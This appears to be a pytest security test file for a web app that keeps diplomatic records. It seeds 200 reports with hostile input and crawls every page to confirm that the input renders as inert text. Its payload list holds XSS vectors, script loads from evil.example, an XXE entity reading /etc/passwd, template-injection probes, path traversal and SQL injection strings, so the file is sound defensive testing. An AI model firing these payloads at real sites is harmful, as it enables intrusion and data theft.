"""Two hundred reports that mean harm: every page that is reached from the first one shows them as text, and nothing of them acts."""

import random
import re
from collections import deque
from collections.abc import Iterator
from urllib.parse import quote, urldefrag, urlsplit

import pytest
from fastapi.testclient import TestClient
from lxml import etree, html
from msgspec.structs import replace
from site_made import AUTHOR, client_of, hostile_reading, made

from despatch import Record
from despatch.answers.plain import plain
from despatch.model import Commitment, Instrument, Participant, Reading

REPORTS = 200
# Pages of each kind that are looked at; "": all others, lists in all their forms.
MOST = {
    "report": 200,
    "entry": 30,
    "person": 8,
    "mechanism": 8,
    "search": 8,
    "relationship": 8,
    "subject": 6,
    "review": 6,
    "": 24,
}
BAD = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)" x="', "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>">', "<object data=data:text/html,x></object>", "<embed src=//evil.example>",
    '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)//", "JaVaScRiPt\t:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "java\nscript:alert(1)", "https://ok.example/\" onclick=\"alert(1)", "http://ok.example/<script>", "//evil.example/x", "https://user:pw@evil.example",
    "<base href=//evil.example/>", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", '<p style="position:fixed;inset:0">x', "expression(alert(1))", "@import 'https://evil.example/x.css';", "</style><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->", "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?php echo 1 ?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "{{ 7 * 7 }}", "{% for x in range(9) %}{{ x }}{% endfor %}", "{{ request.app.state }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "[[7*7]]",
    "\u202egnp.exe\u202c", "\u2066isolate\u2069 \u200fmark", "\u200b\u200c\u200d\ufeffinvisible", "null\x00byte", "\x1b]0;title\x07\x1b[2J", "\x85\u2028\u2029line", "a" + "\u0301" * 300,
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "＜script＞", "</title></textarea></select></option></datalist>",
    '<form action="https://evil.example"><input name=words>', "<button formaction=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    '<div hx-get="/entry/x" hx-trigger="load">', "<div hx-on:click=alert(1)>", "../../../etc/passwd", "%2e%2e/%00", "?words=<script>", "#at\"><script>", "' OR 1=1 --",
)  # fmt: skip
LOCAL = {"/static/htmx.min.js", "/static/despatch.js"}
TAGS = {
    "applet", "audio", "base", "embed", "foreignobject", "frame", "iframe", "image", "img", "marquee", "math", "mglyph", "object", "portal", "set", "source",
    "style", "template", "use", "video", "animate",
}  # fmt: skip
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "ping",
    "hx-get",
    "hx-post",
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)


def words(number: int) -> str:
    """What a report is made of: one thing that means harm, others around it, now and then a very long word."""
    chance = random.Random(number)
    parts = [BAD[number % len(BAD)], *chance.sample(BAD, 2)]
    if number % 50 == 7:
        parts.append("W" * 60_000)
    return " ".join(parts)


def reading(number: int) -> Reading:
    """A report of which the record has entries of each sort; people and formats have names, so that they have pages."""
    bad = words(number)
    base = hostile_reading(bad, number)
    cited = base.contacts[0].citations
    people = (
        Participant(name="Kari Aas", role=bad[:300], party="NOR"),
        Participant(name="Rui Teles", role=f"minister {bad[:99]}", party="PRT"),
    )
    met = replace(
        base.contacts[0], participants=people, mechanism=f"{number % 40 + 1}th annual summit {bad[:200]}"
    )
    planned = replace(base.contacts[0], status="planned", date=f"2022-07-{1 + number % 28:02}")
    text = Instrument(
        title=f"Agreement on {bad[:300]}",
        kind="agreement",
        action="signed",
        date="2022-03-02",
        parties=("NOR", "PRT"),
        citations=cited,
    )
    promise = Commitment(by=("NOR",), what=f"to ratify {bad[:300]}", due="2022-05", citations=cited)
    every = number % 4 == 0  # else pages of lists would hold nothing but these
    return replace(
        base,
        contacts=(met, planned) if every else base.contacts,
        instruments=(text,) if every else (),
        commitments=(promise,) if every else (),
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    where = tmp_path_factory.mktemp("many") / "hostile.db"
    with Record(made(where, map(reading, range(REPORTS)))) as record:
        yield client_of(record, edit=True, author=AUTHOR)


def _harmless(address: str, page: str) -> list[str]:
    """The addresses of the site on a page, of which nothing is of a report but text.

    What the templates put there is known: two scripts of the site's own, and links.
    """
    tree = html.fromstring(page)
    seen = tree.text_content()
    assert not UNSEEN.search(seen), (address, UNSEEN.findall(seen)[:5])
    onward = []
    assert not list(tree.iter(etree.Comment, etree.PI)), address
    for element in tree.iter():
        tag = str(element.tag).lower()
        assert tag not in TAGS, (address, tag)
        if tag == "script":
            assert urlsplit(element.get("src", "")).path in LOCAL, address
            assert not element.text, address
        if tag == "meta":
            assert (element.get("http-equiv") or "").lower() not in ("refresh", "set-cookie"), address
        for name, value in element.attrib.items():
            assert not name.lower().startswith(("on", "hx-on", "style", "srcdoc", "hx-vals", "hx-vars")), (
                address,
                tag,
                name,
            )
            sent = name == "value" and element.get("type") in (
                "hidden",
                "checkbox",
                "radio",
            )  # as it is, for nobody sees it
            assert sent or not UNSEEN.search(value), (address, tag, name)
            if name.rpartition("}")[2].rpartition(":")[2].lower() in ADDRESSES:
                onward += _address(address, element, value)
    return onward


def _address(page: str, element: html.HtmlElement, value: str) -> list[str]:
    """An address within the site, or one of the web that a link leads to with nothing given away."""
    if value.startswith(("http://", "https://")):
        assert element.tag == "a", (page, value)
        assert {"noopener", "noreferrer", "nofollow"} <= set((element.get("rel") or "").split()), (
            page,
            value,
        )
        return []
    assert value.startswith(("/", "#", "?")), (page, value)
    assert not value.startswith("//"), (page, value)
    return [value] if element.tag == "a" and value.startswith("/") else []


def _kind(address: str) -> str:
    first = urlsplit(address).path.split("/")[1]
    return first if first in MOST else ""


def test_every_page_shows_them_as_text(hostile: TestClient) -> None:
    start = ["/", "/home/overdue", "/reports?size=200", "/people", "/review", "/log", "/relationships", "/relationship/NOR-PRT", "/relationship/NOR-PRT/subjects",
             "/compare?pairs=NOR-PRT", "/mechanisms?size=200", "/subjects", "/pending", "/differences?every=true&size=200", "/brief?pair=NOR-PRT&since=2020", "/add", "/login",
             "/api", "/search?words=ministers", "/search?words=alert&of=report&size=200", "/search?words=together&size=200"]  # fmt: skip
    waiting, seen, number = deque(start), set(start), dict.fromkeys(MOST, 0)
    answered = set()
    while waiting:
        address = waiting.popleft()
        answer = hostile.get(address)
        assert answer.status_code == 200 or _decoded_twice(address), (address, answer.text[:500])
        kind = answer.headers["content-type"].split(";")[0]
        assert "default-src 'none'" in answer.headers["content-security-policy"], address
        assert answer.headers["x-content-type-options"] == "nosniff", address
        answered.add(urlsplit(address).path.split("/")[1])
        if kind != "text/html" or "attachment" in answer.headers.get("content-disposition", ""):
            continue
        for found in _harmless(address, answer.text):
            link = urldefrag(found)[0]
            of = _kind(link)
            if link not in seen and not link.startswith("/static/") and number[of] < MOST[of]:
                seen.add(link)
                number[of] += 1
                waiting.append(link)
    assert {
        "entry",
        "report",
        "search",
        "relationship",
        "people",
        "review",
        "person",
        "mechanism",
    } <= answered
    assert number["report"] == REPORTS
    assert number["entry"] == MOST["entry"]


def test_the_text_of_a_report_is_all_there(hostile: TestClient) -> None:
    data = hostile.get("/reports.json?size=200").json()["reports"]
    assert len(data) == REPORTS
    for row in data[::9]:
        number = int(row["id"].split()[0].removeprefix("hostile-"))
        page = hostile.get("/report/" + quote(row["id"], safe="", errors="surrogatepass"))
        if _decoded_twice(row["id"]):
            continue
        shown = plain("".join(html.fromstring(page.text).xpath("//section[@class='text']//text()")))
        wanted = plain(words(number).encode("utf-8", "replace").decode())
        for part in wanted.split("\ufffd"):
            assert plain(part)[:200] in shown, (number, part[:200])


def _decoded_twice(address: str) -> bool:
    """Whether an id has what looks like an encoded character: the client of the tests, unlike a server, decodes it too."""
    return "%25" in address if address.startswith("/") else bool(re.search("%[0-9A-Fa-f]{2}", address))


@pytest.mark.parametrize(
    "address",
    [
        "/relationship/NOR-PRT/timeline.svg",
        "/relationship/NOR-PRT/rhythm.svg",
        "/mechanisms/rhythm.svg",
        "/compare/contacts.svg?pairs=NOR-PRT",
        "/relationships/network.svg",
    ],
)
def test_charts_as_files(hostile: TestClient, address: str) -> None:
    answer = hostile.get(address)
    assert answer.status_code == 200
    tree = etree.fromstring(answer.content)
    for element in tree.iter():
        tag = etree.QName(element).localname
        assert tag not in ("script", "foreignObject", "image", "a", "use", "animate", "set")
        assert not any(name.lower().startswith("on") or name.endswith("href") for name in element.attrib)


def test_the_brief_as_a_page_of_its_own(hostile: TestClient) -> None:
    tree = html.fromstring(hostile.get("/brief.html?pair=NOR-PRT&since=2020").text)
    assert not tree.xpath("//script|//iframe|//img|//object|//@onload|//@onerror|//@onclick")
    assert all(link.startswith(("#", "http://", "https://")) for link in tree.xpath("//@href"))
